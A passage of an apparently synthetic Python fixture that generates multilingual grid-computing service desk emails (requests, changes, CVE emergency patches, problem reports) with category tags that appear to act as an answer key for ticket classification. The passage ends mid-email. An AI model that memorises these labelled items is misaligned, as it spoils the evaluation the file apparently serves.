I am organising a 3-day hands-on course on cloud computing for about 25 MSc students at METU (10-12 March 2025). I would like them to use EGI Notebooks and a small amount of FedCloud VMs.

Could you tell me:
1. what the students need in order to register (an institutional account in Check-in, or is a social login enough?),
2. whether there is a dedicated training VO we should use, and
3. how far in advance we need to contact you?

Any slides or tutorial material you can share would also be welcome.

Best regards,
Yusuf Demir
Middle East Technical University
""", fmt="alt", style="thunderbird")

M("en", "request", "-", "support", "s.oconnor@tcd.ie",
  "question", "2025-01-29 17:48:02 +0000", """
Is there a list somewhere of FedCloud sites that offer GPU flavours for vo.access.egi.eu? thx

Sean
""", vague=True, ua="Apple Mail (2.3774.300.61.1.2)", cte="8bit")

M("en", "request", "-", "support", "Laura Rossetti <laura.rossetti@cmcc.it>",
  "Cost estimate for cloud resources", "2025-01-30 12:20:36 +0100", """
Dear EGI team,

we are preparing a Horizon Europe proposal (deadline 15 April) and would like to include cloud compute from the EGI Federated Cloud for the whole project duration (4 years).

Our rough needs: 200 vCPU, 800 GB RAM, 50 TB object storage, and occasional GPU use.

Could you send us information on how resources are allocated or priced for such projects, and tell us whether a letter of support from EGI is possible? A contact person for the pay-for-use model would be very helpful.

Kind regards,
Laura Rossetti
Euro-Mediterranean Center on Climate Change (CMCC)
""", fmt="html", style="outlook")

M("en", "request", "-", "support", "Henrik Nilsson <henrik.nilsson@chalmers.se>",
  "Re: [DESK-10482] Jobs aborted at NDGF-T1 storage", "2025-01-16 09:05:57 +0100", """
Hi Pieter,

confirmed - our jobs run fine again since yesterday evening, thanks for the quick help. You can close the ticket.

One follow-up question: is there a way to subscribe to downtime announcements for NDGF-T1 only, so we know in advance next time? I looked at the Operations Portal but I'm not sure which of the subscription options is the right one for a plain user.

Henrik

On Wed, 15 Jan 2025 at 17:21, EGI Service Desk <support@desk.example.org> wrote:
> Dear Henrik,
>
> the site reports that one of the dCache pools at NDGF-T1 was offline
> after a failed disk controller; stage-in of your input files therefore
> failed with "No such file or directory". The pool is back online and
> the site confirms all files are accessible again.
>
> Could you please confirm that your jobs are running again?
>
> Best regards,
> Pieter de Groot
> EGI Service Desk
""", reply=True, tags="request-outage reply-new-issue")

M("en", "request", "-", "support", "Bruno Costa <bruno.costa@cern.ch>",
  "proxy lifetime for long jobs", "2025-02-04 18:22:13 +0100", """
Hi,

not urgent, just a question. Some of our longest jobs at FZK-LCG2 end with

  Job held: Proxy expired (x509 proxy lifetime exceeded)

after about 4 days. I assume our proxy is simply too short. What is the recommended way to keep a proxy alive for jobs that run 5-6 days - MyProxy renewal, or should we move to tokens for this? A pointer to the right documentation would be enough.

Cheers,
Bruno
""", tags="says-not-urgent")

M("de", "request", "-", "support", "Martina Schulz <martina.schulz@uni-mainz.de>",
  "Frage zur Wartung am 4. Februar", "2025-01-31 11:37:50 +0100", """
Guten Tag,

ich habe die Ankündigung gelesen, dass die FedCloud-Site DESY-HH am 4. Februar wegen Wartungsarbeiten den ganzen Tag nicht verfügbar ist.

Wir haben dort drei VMs mit laufenden Langzeitsimulationen. Werden die VMs nach dem Ausfall automatisch wieder gestartet, oder müssen wir sie selbst neu starten? Und bleiben die Daten auf den angehängten Volumes erhalten?

Vielen Dank und freundliche Grüße
Martina Schulz
Institut für Physik der Atmosphäre, JGU Mainz
""", charset="utf-8", cte="8bit", tags="request-outage")

M("fr", "request", "-", "support", "Camille Lefèvre <camille.lefevre@univ-grenoble-alpes.fr>",
  "Certificat personnel pour un nouveau doctorant", "2025-01-21 14:12:08 +0100", """
Bonjour,

un nouveau doctorant rejoint notre équipe le mois prochain et devra soumettre des jobs sur la grille pour la VO biomed.

Pourriez-vous m'indiquer la démarche pour qu'il obtienne un certificat personnel (GEANT TCS ?) et ensuite comment il s'enregistre dans la VO ? S'il existe une page de documentation à jour, un lien suffira.

Merci d'avance,
Camille Lefèvre
LPSC Grenoble
""", fmt="alt", style="gmail")

M("fr", "request", "-", "support", "Olivier Garnier <olivier.garnier@cnrs.fr>",
  "TR: Problème d'accès à la VO", "2025-01-27 11:02:40 +0100", """
Bonjour,

je vous transfère la question d'une stagiaire. Pourriez-vous lui indiquer la procédure ? Je ne sais pas à qui elle doit s'adresser.

Merci,
Olivier

-------- Message transféré --------
Sujet : Problème d'accès à la VO
Date : Mon, 27 Jan 2025 10:12:44 +0100
De : Inès Benali <ines.benali@etu.univ-amu.fr>
Pour : Olivier Garnier <olivier.garnier@cnrs.fr>

Bonjour Olivier,

je voudrais utiliser les ressources de calcul de la VO vo.complex-systems.eu pour mon stage, mais je ne sais pas comment demander l'accès. Faut-il passer par Check-in ou par un formulaire ? Et est-ce que mon compte étudiant suffit ?

Bonne journée,
Inès
""", charset="iso-8859-1", cte="qp", fwd=True)

M("it", "request", "-", "support", "Marco Esposito <marco.esposito@na.infn.it>",
  "I: Domanda su Apptainer", "2025-01-28 10:15:21 +0100", """
Ciao,

vi inoltro la domanda di una nostra utente, non sono sicuro di cosa risponderle.

Grazie,
Marco

-----Messaggio originale-----
Da: Francesca Greco <francesca.greco@unina.it>
Inviato: martedì 28 gennaio 2025 09:31
A: Marco Esposito <marco.esposito@na.infn.it>
Oggetto: Domanda su Apptainer

Ciao Marco,

è possibile usare container Apptainer/Singularity nei job che mandiamo sul sito INFN-NAPOLI con la VO km3net.org? Se sì, le immagini vanno messe su CVMFS (unpacked.cern.ch) o posso portarle dentro il job? C'è della documentazione?

Grazie mille,
Francesca
""", style="outlook", fwd=True)

M("es", "request", "-", "support", "Lucía Navarro <lucia.navarro@ifca.unican.es>",
  "Consulta sobre cuota", "2025-02-05 10:48:33 +0100", """
Buenos días:

¿Podríais decirme qué cuota de almacenamiento en bloque tenemos asignada en el proyecto "lifewatch-eric" del cloud de IFCA y cuánto llevamos consumido? No necesitamos ampliarla de momento, sólo queremos saber dónde se puede consultar (¿en Horizon, con la CLI?).

Gracias,
Lucía Navarro
""", charset="iso-8859-1", cte="8bit", tags="quota-question")

M("pl", "request", "-", "support", "Michał Zieliński <michal.zielinski@uw.edu.pl>",
  "Pytanie o uprawnienia do zapisu", "2025-02-07 12:30:16 +0100", """
Dzień dobry,

to nie jest zgłoszenie awarii, tylko pytanie. Przy próbie zapisu na SE w Cyfronecie dostaję:

  gfal-copy test.dat davs://se.grid.cyf-kr.edu.pl/dpm/cyf-kr.edu.pl/home/vo.plgrid.pl/mz/
  gfal-copy error: 13 (Permission denied) - HTTP 403

Odczyt działa. Czy do zapisu potrzebna jest jakaś dodatkowa rola albo grupa w VOMS (np. /vo.plgrid.pl/Role=production)? Gdzie mogę sprawdzić, jakie mam uprawnienia?

Pozdrawiam
Michał Zieliński
Uniwersytet Warszawski
""", tags="says-request")

M("cs", "request", "-", "support", "Ing. Hana Procházková <hana.prochazkova@vscht.cz>",
  "Dotaz", "2025-02-10 09:41:27 +0100", """
Dobrý den,

pro závěrečnou zprávu našeho grantového projektu (GA ČR 23-04512S) potřebuji potvrzení o tom, kolik výpočetního času naše skupina využila v roce 2024 v rámci EGI (VO vo.metacentrum.cz? nebo přes CESNET-MCC). Mohli byste mi prosím poslat přehled v jádrohodinách, nebo poradit, kde si ho mohu stáhnout z účtovacího portálu?

Děkuji a přeji hezký den
Hana Procházková
VŠCHT Praha
""", charset="iso-8859-2", cte="qp", hq="b", vague=True)

M("nl", "request", "-", "support", "Femke de Boer <f.deboer@rug.nl>",
  "Vraag over toegang tot EGI Notebooks", "2025-02-11 14:05:48 +0100", """
Beste helpdesk,

Ik wil voor mijn promotieonderzoek EGI Notebooks gebruiken. Als ik inlog met mijn RUG-account krijg ik de melding dat ik eerst lid moet worden van een VO. Welke VO moet ik daarvoor aanvragen, en hoe lang duurt dat meestal?

Met vriendelijke groet,
Femke de Boer
Rijksuniversiteit Groningen
""")

M("nl", "request", "-", "support", "Pieter Jansen <p.jansen@nikhef.nl>",
  "Storing vorige week - waar kunnen we de status volgen?", "2025-02-12 10:19:03 +0100", """
Hallo,

vorige week dinsdag was Check-in een paar uur onbereikbaar en we kregen daar veel vragen over van onze gebruikers. Het is inmiddels opgelost, maar ik vraag me af: is er een statuspagina of mailinglijst waar we zulke storingen live kunnen volgen? Dan kunnen we onze gebruikers voortaan zelf doorverwijzen.

Groet,
Pieter Jansen
Nikhef
""", fmt="html", style="web", tags="request-outage")

M("pt", "request", "-", "support", "Ana Ribeiro <ana.ribeiro@uminho.pt>",
  "Como registar um novo serviço no GOCDB?", "2025-02-12 16:33:27 +0000", """
Olá,

vamos disponibilizar um novo endpoint S3 no nosso site (UMINHO-CP) e gostaríamos de o registar no GOCDB para que fique visível na monitorização.

Qual é o tipo de serviço correto para um endpoint S3, e que permissões preciso de ter no GOCDB para o adicionar? Há alguma documentação sobre isto?

Obrigada,
Ana Ribeiro
Universidade do Minho
""", charset="iso-8859-1", cte="qp")

# ---------------------------------------------------------------------------
# CHANGES - standard (6)
# ---------------------------------------------------------------------------

M("en", "change", "standard", "support", "Matej Kranjc <matej.kranjc@ijs.si>",
  "Host cert for arc-ce02.ijs.si expires 3 Feb", "2025-01-20 08:44:10 +0100", """
Hello,

the host certificate of arc-ce02.ijs.si (SiGNET) expires on 3 February 2025. Please renew it - CSR below, same subject as before:

  /DC=org/DC=terena/DC=tcs/C=SI/L=Ljubljana/O=Institut Jozef Stefan/CN=arc-ce02.ijs.si

-----BEGIN CERTIFICATE REQUEST-----
MIICvDCCAaQCAQAwdzELMAkGA1UEBhMCU0kxEjAQBgNVBAcMCUxqdWJsamFuYTEf
MB0GA1UECgwWSW5zdGl0dXQgSm96ZWYgU3RlZmFuMRgwFgYDVQQDDA9hcmMtY2Uw
Mi5panMuc2kwggEiMA0GCSqGSIb3DQEBAQUAA4IBDwAwggEKAoIBAQC7q3fJ0xZ2
-----END CERTIFICATE REQUEST-----

Thanks,
Matej
""", tags="host-cert")

M("en", "change", "standard", "support", "Dr. Elena Petrova <elena.petrova@emso-eric.eu>",
  "New members for vo.emso-eric.eu", "2025-01-24 15:27:41 +0100", """
Dear Service Desk,

as VO manager of vo.emso-eric.eu I'd like to ask you to add the following four colleagues to the VO (group /vo.emso-eric.eu/data-processing, no special roles):

- Nikos Papadakis, nikos.papadakis@hcmr.gr
- Ana Martins, ana.martins@ipma.pt
- Lorenzo Fabbri, l.fabbri@ingv.it
- Siobhan Kelly, siobhan.kelly@marine.ie

All four have already signed in to EGI Check-in once with their institutional accounts, so their Check-in identities should exist.

Many thanks,
Elena Petrova
EMSO ERIC Data Management
""", fmt="alt", style="outlook", tags="vo-members")

M("en", "change", "standard", "support", "Rob Turner <rob.turner@gridpp.ac.uk>",
  "ce02.esc.qmul.ac.uk", "2025-02-03 10:12:55 +0000", """
Hi,

could you please ask the site team to restart the condor-ce service on ce02.esc.qmul.ac.uk? The host certificate was replaced yesterday, but the daemon still presents the old one (checked with openssl s_client on port 9619). A restart should pick up the new one. No rush, any time today is fine.

Rob
""", vague=True, tags="restart")

M("de", "change", "standard", "support", "Dr. Katrin Neumann <katrin.neumann@kit.edu>",
  "AW: Quota VO belle auf dem DESY-dCache", "2025-01-28 09:03:26 +0100", """
Hallo Herr de Groot,

danke für die schnelle Rückmeldung. Hier die gewünschten Angaben:

- VO: belle
- Speicher: dCache DESY-HH, Space Token BELLE_USER
- aktuelle Quota: 50 TB (zu 94 % belegt)
- gewünschte Quota: 80 TB, ab sofort bis Ende 2025
- Begründung: Reprocessing der Run-2-Daten ab Februar

Die Erhöhung ist mit dem Belle-II-Computing-Koordinator abgestimmt.

Viele Grüße
Katrin Neumann
KIT, Institut für Experimentelle Teilchenphysik

-----Ursprüngliche Nachricht-----
Von: EGI Service Desk <support@desk.example.org>
Gesendet: Montag, 27. Januar 2025 16:05
An: Neumann, Katrin <katrin.neumann@kit.edu>
Betreff: RE: Quota VO belle auf dem DESY-dCache

Sehr geehrte Frau Neumann,

damit wir die Erhöhung der Quota veranlassen können, benötigen wir noch den Space Token, die aktuelle und die gewünschte Größe sowie den Zeitraum.

Mit freundlichen Grüßen
Pieter de Groot
EGI Service Desk
""", fmt="alt", style="outlook", reply=True, tags="quota-increase")

M("pl", "change", "standard", "support", "Paweł Nowak <pawel.nowak@ncbj.gov.pl>",
  "Odp: Zwiększenie limitów w projekcie chmurowym", "2025-01-29 12:14:07 +0100", """
Dzień dobry,

w nawiązaniu do Państwa pytania - prosimy o zwiększenie limitów (quota) w projekcie "ncbj-astro" w chmurze CYFRONET-CLOUD:

- vCPU: z 64 do 128
- RAM: z 256 GB do 512 GB
- wolumeny: z 5 TB do 10 TB

Zwiększone limity są potrzebne do końca czerwca 2025 (analiza danych z LOFAR).

Pozdrawiam
Paweł Nowak
Narodowe Centrum Badań Jądrowych

W dniu 28.01.2025 o 11:40, EGI Service Desk pisze:
> Szanowny Panie,
>
> prosimy o podanie aktualnych i docelowych wartości limitów (vCPU, RAM,
> wolumeny) oraz okresu, na jaki mają obowiązywać.
>
> Z poważaniem
> EGI Service Desk
""", charset="iso-8859-2", cte="qp", reply=True, tags="quota-increase")

M("cs", "change", "standard", "support", "Jan Novotný <jan.novotny@fzu.cz>",
  "Přidání členů do VO auger", "2025-02-06 14:50:31 +0100", """
Dobrý den,

jako manažer VO auger Vás prosím o přidání dvou nových členů:

1. Tereza Svobodová, tereza.svobodova@fzu.cz - skupina /auger/prod
2. Lukáš Černý, lukas.cerny@mff.cuni.cz - skupina /auger

Oba už mají platný osobní certifikát a účet v EGI Check-in.

Děkuji,
Jan Novotný
FZÚ AV ČR
""", tags="vo-members")

# ---------------------------------------------------------------------------
# CHANGES - normal (8)
# ---------------------------------------------------------------------------

M("en", "change", "normal", "support", "Stefan Ionescu <stefan.ionescu@nipne.ro>",
  "Firewall: inbound 9619/tcp for new CE at RO-07-NIPNE", "2025-01-22 13:40:18 +0200", """
Hello,

we are commissioning a second HTCondor-CE (ce02.nipne.ro, 192.0.2.88) at RO-07-NIPNE. Could the network team please open inbound TCP 9619 from anywhere, and 9618 from the collector ranges, on the site border firewall? Same rules as for ce01.nipne.ro.

We would like to start the ARGO tests by 10 February.

Thanks,
Stefan
""")

M("en", "change", "normal", "support", "Dimitris Georgiou <dgeorgiou@grid.auth.gr>",
  "se01.grid.auth.gr: dCache 8.2 -> 9.2", "2025-02-04 11:25:45 +0200", """
Hi,

please register a change for GR-01-AUTH: we want to upgrade the dCache instance on se01.grid.auth.gr from 8.2.x to 9.2.x (8.2 is going out of support) and move the Chimera database to PostgreSQL 15 at the same time.

We would do it during the downtime we already have in GOCDB for 18 February, 08:00-16:00 UTC, so no extra unavailability is expected. Rollback plan: DB snapshot, and the old packages stay on the head node.

Can you confirm this is OK from your side, and let the VOs supported by the SE (atlas, biomed) know?

Dimitris
""", vague=True, tags="change-downtime")

M("en", "change", "normal", "support", "Sofia Marin <sofia.marin@cta-observatory.org>",
  "Enable vo.cta.in2p3.fr at UKI-NORTHGRID-LANCS-HEP", "2025-01-29 16:03:37 +0100", """
Dear all,

CTA would like to run part of its 2025 simulation campaign at UKI-NORTHGRID-LANCS-HEP. The site has agreed in principle (GridPP ops meeting of 21 January).

Could you please open a ticket to the site to enable vo.cta.in2p3.fr on their ARC CE and storage? What is needed:
- VOMS: cta-voms01.in2p3.fr and cta-voms02.in2p3.fr (lsc files as listed on the Operations Portal VO ID card)
- pool accounts or mapping for /vo.cta.in2p3.fr and /vo.cta.in2p3.fr/Role=production
- about 20 TB on the SE under a dedicated path
- the CVMFS repository cta.cvmfs.egi.eu mounted on the worker nodes

Best regards,
Sofia Marin
CTA Computing
""", fmt="alt", style="thunderbird")

M("en", "change", "normal", "support", "Viktor Horváth <viktor.horvath@sztaki.hu>",
  "Request: GPU flavour for project bioimg-dl", "2025-02-07 09:58:12 +0100", """
Hello,

for our deep-learning project "bioimg-dl" on the IISAS-GPUCloud site we need a new flavour with 2 x NVIDIA A100, 16 vCPU, 120 GB RAM and 200 GB ephemeral disk. Could you please create it and make it available to our project only?

The current g1.a100-1 flavour (one GPU) is too small for the models we train now.

Thank you,
Viktor Horváth
SZTAKI, Budapest
""", fmt="html", style="web", tags="says-request-change")

M("fr", "change", "normal", "support", "Nicolas Bertrand <nicolas.bertrand@cppm.in2p3.fr>",
  "Ajout du dépôt CVMFS km3net.egi.eu sur les WN", "2025-02-03 15:21:09 +0100", """
Bonjour,

la collaboration KM3NeT souhaiterait que le dépôt CVMFS km3net.egi.eu soit monté sur l'ensemble des nœuds de calcul du site IN2P3-CPPM. Il faudrait aussi ajouter la clé publique du dépôt et l'entrée correspondante dans la configuration du client CVMFS (default.local).

Pour ne pas perturber la production, l'équipe du site propose de faire la modification pendant l'arrêt programmé du 11 février, déjà déclaré dans GOCDB.

Pouvez-vous enregistrer la demande de changement et la transmettre au site ?

Merci,
Nicolas Bertrand
""", fmt="html", style="outlook", tags="change-downtime")

M("it", "change", "normal", "support", "Roberta Mancini <roberta.mancini@pi.infn.it>",
  "Richiesta abilitazione IPv6 su storm.pi.infn.it", "2025-02-05 11:44:50 +0100", """
Buongiorno,

con la presente chiediamo di abilitare IPv6 (dual stack) sul frontend StoRM storm.pi.infn.it del sito INFN-PISA. Il prefisso assegnato dal GARR è già configurato sui router; resta da:

- assegnare l'indirizzo 2001:db8:760:12::21 all'interfaccia pubblica,
- aggiungere il record AAAA nel DNS,
- aprire le porte 8443 e 1094 anche per IPv6 sul firewall.

Il tutto in vista del requisito WLCG del dual stack sugli storage. Possiamo concordare una data la prossima settimana.

Cordiali saluti,
Roberta Mancini
Servizio Calcolo, INFN Pisa
""", charset="iso-8859-1", cte="qp", tags="says-request-change")

M("es", "change", "normal", "support", "Sergio Ortega <sortega@pic.es>",
  "RV: Configuración del enlace PIC-IFCA en FTS", "2025-01-30 13:17:24 +0100", """
Hola,

os reenvío lo que hablamos con IFCA. ¿Podéis aplicar el cambio en el FTS (fts3.pic.es)? Gracias.

Sergio

-----Mensaje original-----
De: Marta Gil <marta.gil@ifca.unican.es>
Enviado el: jueves, 30 de enero de 2025 12:04
Para: Sergio Ortega <sortega@pic.es>
Asunto: Configuración del enlace PIC-IFCA en FTS

Hola Sergio,

como comentamos en la reunión, para la campaña de réplicas de febrero nos vendría bien cambiar la configuración del enlace srm.pic.es -> xrootd.ifca.es en el FTS:

- máximo de transferencias activas: de 20 a 60
- activar el optimizador para ese enlace
- timeout por fichero: 3600 s

Un saludo,
Marta
""", fmt="alt", style="outlook", fwd=True)

M("pt", "change", "normal", "support", "Tiago Sousa <tiago.sousa@fc.ul.pt>",
  "Instalação de Julia nos nós de cálculo", "2025-02-10 10:06:39 +0000", """
Bom dia,

o nosso grupo precisa de correr simulações em Julia 1.11 no cluster do INCD (fila "hpc"). Seria possível instalar o Julia 1.11 como módulo (Lmod) em todos os nós de cálculo, com os pacotes MPI.jl e HDF5.jl pré-compilados contra o OpenMPI do sistema?

Se for mais simples, também serve disponibilizá-lo via CVMFS.

Obrigado,
Tiago Sousa
Faculdade de Ciências, Universidade de Lisboa
""", charset="iso-8859-1", cte="qp")

# ---------------------------------------------------------------------------
# CHANGES - emergency (6)
# ---------------------------------------------------------------------------

M("en", "change", "emergency", "support", "Mikko Virtanen <mikko.virtanen@csc.fi>",
  "URGENT: patch OpenSSH on the login nodes (CVE-2024-6387)", "2024-07-02 09:12:00 +0300", """
Hi,

the regreSSHion fix is out for EL9 (openssh-8.7p1-38.el9_4.1). Our three public login nodes (ui1, ui2 and ui3.grid.csc.fi) are still on the vulnerable build and reachable from the internet.

Please push the update and restart sshd on all three today, outside the normal change window. We accept the short interruption for logged-in users. If the patch cannot be applied before 18:00, set LoginGraceTime 0 in sshd_config as a stop-gap.

Mikko
""", tags="cve-emergency")

M("en", "change", "emergency", "support", "Hannah Schmidt <hannah.schmidt@egi.eu>",
  "Emergency change: roll back proxy config on Check-in front-ends", "2025-02-11 10:04:29 +0100", """
Hello team,

I'm declaring an emergency change. The HAProxy configuration deployed at 09:30 on the Check-in front-end proxies (proxy01 and proxy02.aai.egi.eu) drops the X-Forwarded-For header, so the rate limiter now sees every request as coming from the proxies themselves and is throttling logins for the whole federation.

Requested action: roll back to the previous configuration (git tag haproxy-cfg-2025.01.2) on both nodes immediately and reload HAProxy. The fix for the new config will go through the normal process later.

Approved by: R. Kovacs (duty manager)

Hannah
""", tags="says-emergency")

M("en", "change", "emergency", "support", "Neil Patterson <neil.patterson@glasgow.ac.uk>",
  "Fwd: [EGI CSIRT] CRITICAL advisory: runc container escape (CVE-2024-21626)", "2024-02-01 16:40:00 +0000", """
Service desk,

please treat this as an emergency change for the Kubernetes cluster at UKI-SCOTGRID-GLASGOW (k8s-wn01..k8s-wn48): upgrade runc to 1.1.12 and containerd to 1.7.13 on all worker nodes today, draining the nodes in batches of 8. The advisory attached is the justification - we run user containers from several VOs, so we can't wait for the next maintenance window.

Neil
""", fwd=True, tags="cve-emergency says-emergency forwarded-advisory", attach={
      "from": "EGI CSIRT <csirt@egi.eu>",
      "to": "site-security-contacts@mailman.egi.eu",
      "date": "Thu, 01 Feb 2024 14:02:00 +0100",
      "subject": "[EGI CSIRT] CRITICAL advisory: runc container escape (CVE-2024-21626)",
      "body": """
** WHITE advisory [EGI-SVG-CVE-2024-21626] **

Title:   runc - container breakout through leaked file descriptor
Date:    2024-02-01
Risk:    CRITICAL

A vulnerability in runc up to and including 1.1.11 allows a process inside a
container to access the host filesystem through a leaked file descriptor of the
current working directory ("Leaky Vessels"). Exploits are public.

Affected: sites running user-provided containers with runc (Docker, containerd,
Kubernetes, Podman with runc).

Actions required: sites must update runc to 1.1.12 or later on all affected
hosts as soon as possible, and in any case within 7 days. Sites that cannot
update must stop running user-provided containers until they do.

Please report the status of your site to the EGI CSIRT.
"""})

M("de", "change", "emergency", "support", "Markus Weber <markus.weber@kit.edu>",
  "Notfall-Change: Kernel-Update auf allen Worker-Nodes (CVE-2024-1086)", "2024-04-03 08:36:51 +0200", """
Hallo zusammen,

für FZK-LCG2 beantragen wir hiermit einen Notfall-Change:

Was: Kernel-Update auf allen ca. 900 Worker-Nodes (EL9: kernel-5.14.0-362.24.1.el9_3, EL8: kernel-4.18.0-513.24.1.el8_9), anschließend Reboot in Wellen.
Warum: Für CVE-2024-1086 (nf_tables, lokale Rechteausweitung auf root) ist ein öffentlicher Exploit verfügbar; auf den WNs laufen Benutzer-Jobs aus vielen VOs.
Wann: ab sofort, Abschluss bis morgen 18:00 Uhr. Nicht bis zum nächsten regulären Wartungsfenster warten.
Auswirkung: Knoten werden gedraint, laufende Jobs laufen aus; ca. 24 Stunden reduzierte Kapazität.

Bitte die VOs entsprechend informieren.

Gruß
Markus Weber
""", charset="iso-8859-1", cte="qp", fmt="alt", style="outlook", tags="cve-emergency says-emergency")

M("cs", "change", "emergency", "support", "Tomáš Kučera <tomas.kucera@cesnet.cz>",
  "Okamžitá aktualizace glibc - CVE-2023-4911", "2023-10-04 10:15:00 +0200", """
Dobrý den,

žádáme o okamžité provedení mimořádné změny na všech uživatelských rozhraních a výpočetních uzlech MetaCentra: aktualizace glibc kvůli CVE-2023-4911 ("Looney Tunables"). Pro EL8 a EL9 jsou opravené balíčky už v repozitářích a veřejný exploit je k dispozici.

Postup: aktualizovat glibc, na frontendech restartovat sshd a ostatní dlouho běžící služby; výpočetní uzly restartovat postupně po doběhnutí úloh.

Nečekejte prosím na plánované okno ve čtvrtek.

S pozdravem
Tomáš Kučera
CESNET
""", charset="iso-8859-2", cte="b64", hq="b", tags="cve-emergency")

M("es", "change", "emergency", "support", "Raquel Domínguez <raquel.dominguez@cesga.es>",
  "Cambio de emergencia: desactivar cups-browsed", "2024-09-27 09:51:44 +0200", """
Hola,

declaramos un cambio de emergencia para todos los nodos de CESGA (UI, WN y servidores de servicios):

- detener y deshabilitar el servicio cups-browsed (systemctl disable --now cups-browsed)
- bloquear el puerto UDP 631 en el cortafuegos perimetral

Motivo: CVE-2024-47176 y las vulnerabilidades relacionadas permiten ejecución remota de código a través de cups-browsed; tenemos nodos con el servicio activo y el puerto 631 abierto a Internet. Hay que aplicarlo hoy mismo, sin esperar a la ventana de mantenimiento.

Gracias,
Raquel Domínguez
Centro de Supercomputación de Galicia
""", tags="cve-emergency says-emergency")

# ---------------------------------------------------------------------------
# PROBLEMS (7)
# ---------------------------------------------------------------------------

M("en", "problem", "-", "support", "Kristof Peeters <kristof.peeters@ulb.be>",
  "SRM down again", "2025-02-03 08:31:16 +0100", """
Hi,

and once again the storage at BEgrid-ULB-VUB (maite.iihe.ac.be) that we use for CMS stopped answering on Sunday night, and was only back after the on-call person restarted the SRM door on Monday morning. That's the fourth Sunday out of the last six (5 Jan, 12 Jan, 26 Jan and now 2 Feb), always between 01:00 and 03:00.

Restarting fixes it every time, so we are not asking for another restart. What we'd like is for someone to find out why this keeps happening - log rotation, the weekly DB vacuum, a backup job? - and to track it as a problem until the cause is found.

Kristof
""", vague=True, tags="problem-like-incident")

M("en", "problem", "-", "support", "Eva Horvat <eva.horvat@irb.hr>",
  "Nightly stage-out failures at NCG-INGRID-PT - same pattern for 3 weeks", "2025-01-27 14:55:02 +0100", """
Dear Service Desk,

I'd like to ask for a proper investigation rather than another quick fix. Since early January our jobs for vo.complex-systems.eu at NCG-INGRID-PT fail in a very regular pattern, and every single failure has been handled as a separate ticket without anyone looking at the bigger picture.

What we see (all times UTC):

  date        window        jobs lost   symptom
  2025-01-07  02:00-02:40   312         stage-out: "No route to host"
  2025-01-10  02:00-02:35   287         stage-out: "No route to host"
  2025-01-14  02:05-02:50   401         stage-out hangs, killed by walltime
  2025-01-17  02:00-02:30   198         stage-out: "No route to host"
  2025-01-21  02:00-02:45   356         stage-out: "No route to host"
  2025-01-24  02:10-02:40   240         stage-out hangs, killed by walltime

It is always Tuesday and Friday nights, always stage-out to our SE at IRB (dpm.irb.hr), and always 30-45 minutes. Transfers from other sites to dpm.irb.hr at the same time work. Related tickets: DESK-10233, DESK-10301, DESK-10377, DESK-10412.

It looks like something scheduled on the site side (network maintenance, a firewall reload, backups?). Could you please open a problem record and coordinate a root-cause analysis with the site? We are happy to provide job IDs and logs.

Best regards,
Eva Horvat
Ruđer Bošković Institute, Zagreb
""")

M("en", "problem", "-", "support", "Martin Bobák <martin.bobak@savba.sk>",
  "A/R of NGI_SK sites below target for the third month", "2025-02-04 13:22:48 +0100", """
Dear colleagues,

for the third month in a row three of our sites (IISAS-Bratislava, TU-Kosice, FMPhI-UNIBA) are below the 80% reliability target, and in each case the drop comes from the same kind of event: the site-BDII is reported CRITICAL by ARGO for a few hours, although the services behind it are fine.

Each time we open an incident, the BDII comes back and the ticket is closed - but the cause is never understood. We suspect something between the site-BDIIs and the top-BDII (timeouts of the LDAP query made by the ARGO probes?).

We would like this treated as a problem: please collect the past incidents, analyse the root cause together with the ARGO team, and tell us what to change on our side if needed.

Kind regards,
Martin Bobák
NGI_SK Operations Manager
""", fmt="alt", style="outlook")

M("fr", "problem", "-", "support", "Sylvie Moreau <sylvie.moreau@obspm.fr>",
  "Encore une coupure de l'accès au cloud", "2025-01-24 11:08:35 +0100", """
Bonjour,

nouvelle coupure ce matin : impossible de joindre nos VM sur le cloud du CC-IN2P3 pendant environ 40 minutes. C'est la troisième fois depuis le début du mois (6 janvier, 14 janvier et aujourd'hui), et à chaque fois le ticket est fermé avec la mention « résolu, incident réseau transitoire ».

Nous ne demandons pas simplement un redémarrage : nous aimerions qu'une analyse de la cause profonde soit faite, que l'on nous explique ce qui provoque ces coupures répétées et comment elles seront évitées à l'avenir.

Cordialement,
Sylvie Moreau
Observatoire de Paris
""", charset="iso-8859-1", cte="qp", tags="problem-like-incident")

M("it", "problem", "-", "support", "Davide Conti <davide.conti@ba.infn.it>",
  "R: [DESK-10561] CE recas-ce01 non accetta job", "2025-02-04 09:27:13 +0100", """
Ciao,

grazie, confermo che dopo il riavvio il CE accetta di nuovo i job. Però è la terza volta in un mese che succede, sempre con lo stesso sintomo: HTCondor-CE smette di accettare job dopo qualche giorno di uptime e un riavvio lo sistema.

Non vorrei aprire ogni settimana un ticket nuovo: potete aprire un problem e fare un'analisi della causa insieme al sito? Sospetto una perdita di memoria nello schedd, ma non ho accesso ai log.

Davide

-----Messaggio originale-----
Da: EGI Service Desk <support@desk.example.org>
Inviato: lunedì 3 febbraio 2025 15:12
A: Davide Conti <davide.conti@ba.infn.it>
Oggetto: [DESK-10561] CE recas-ce01 non accetta job

Gentile Davide,
il sito ha riavviato il servizio condor-ce su recas-ce01.ba.infn.it. Può confermare che i job vengono accettati di nuovo?

Cordiali saluti
EGI Service Desk
""", fmt="alt", style="outlook", reply=True, tags="problem-like-incident")

M("pl", "problem", "-", "support", "Agnieszka Kamińska <agnieszka.kaminska@icm.edu.pl>",
  "PD: Kolejna awaria dostępu do danych", "2025-02-04 10:12:50 +0100", """
Dzień dobry,

przesyłam poniżej wiadomość od naszego użytkownika. To już piąty taki przypadek od grudnia - za każdym razem po kilku godzinach problem znika sam, a zgłoszenie zostaje zamknięte bez wyjaśnienia.

Prosimy o potraktowanie tego jako problemu i przeprowadzenie analizy przyczyny źródłowej. Lista wcześniejszych zgłoszeń: DESK-9921, DESK-10044, DESK-10187, DESK-10355.

Pozdrawiam
Agnieszka Kamińska
ICM UW

---------- Forwarded message ---------
Od: Jan Kowalczyk <j.kowalczyk@uw.edu.pl>
Date: wt., 4 lut 2025 o 08:52
Subject: Kolejna awaria dostępu do danych
To: Agnieszka Kamińska <agnieszka.kaminska@icm.edu.pl>

Znowu nie da się odczytać plików z przestrzeni Onedata (Oneprovider w Cyfronecie) - od ok. 6:00 wszystkie odczyty kończą się timeoutem.

Jan
""", fmt="alt", style="gmail", fwd=True, tags="problem-like-incident")

M("nl", "problem", "-", "support", "Lotte Mulder <l.mulder@uu.nl>",
  "Opnieuw uitval van de JupyterHub", "2025-02-10 11:46:21 +0100", """
Hallo,

